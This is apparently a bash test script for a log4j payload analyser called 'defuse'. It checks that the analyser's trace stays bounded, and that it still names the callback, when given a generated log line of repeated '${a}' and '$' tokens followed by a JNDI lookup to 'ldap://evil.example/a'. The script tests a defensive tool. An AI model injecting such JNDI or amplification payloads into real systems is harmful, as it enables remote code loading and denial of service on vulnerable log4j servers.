#!/usr/bin/env bash
# explain_bounded.sh -- `defuse explain` stays linear on hostile input: a
# line of ${a} x N + $ x N + {jndi:...} makes log4j run thousands of
# re-substitution passes.  The trace must stay bounded (texts cut, repeats
# counted, steps past the cap counted per action in steps_omitted) and the
# request still be named; `defuse logs` must report it too.
source "$(dirname "$0")/logs_lib.bash"
cd "$T"
python3 -c '
import sys
n = 20000
sys.stdout.write("${a}" * n + "$" * n + "{jndi:ldap://evil.example/a}\n")' > hostile.log
"$DEFUSE" explain --json --file hostile.log > out.json; expect_rc 0 $? "explain runs on the hostile line"
size=$(stat -c %s out.json)
# Unbounded, the steps alone were ~1.5 GB for this line (20,000 passes over
# a 100 KB message, each step carrying it whole).
[ "$size" -lt 8000000 ] && ok "explain --json output bounded ($size bytes)" || fail "explain --json output is $size bytes"
python3 - <<'PY' || fail "explain --json: bounded trace and the jndi finding"
import json
o = json.load(open("out.json"))
steps = o["steps"]
assert len(steps) <= 1200, len(steps)
assert all(len(s["input"] or "") <= 2048 and len(s["output"] or "") <= 2048 for s in steps)
assert any("input_len" in s for s in steps), "no cut text marked"
assert sum(o.get("steps_omitted", {}).values()) > 0, "no omitted steps counted"
assert any(f["kind"] == "jndi" and f["callback"] == "ldap://evil.example/a" for f in o["findings"]), o["findings"]
PY
ok "explain --json: bounded trace and the jndi finding"
"$DEFUSE" logs --json hostile.log > logs.json; expect_rc 1 $? "defuse logs reports the hostile line"
expect_grep '"ldap://evil.example/a"' logs.json "defuse logs names the callback"
"$DEFUSE" explain --file hostile.log > out.txt; expect_rc 0 $? "explain (text) runs"
expect_grep "more steps left out" out.txt "text trace says what it left out"
finish
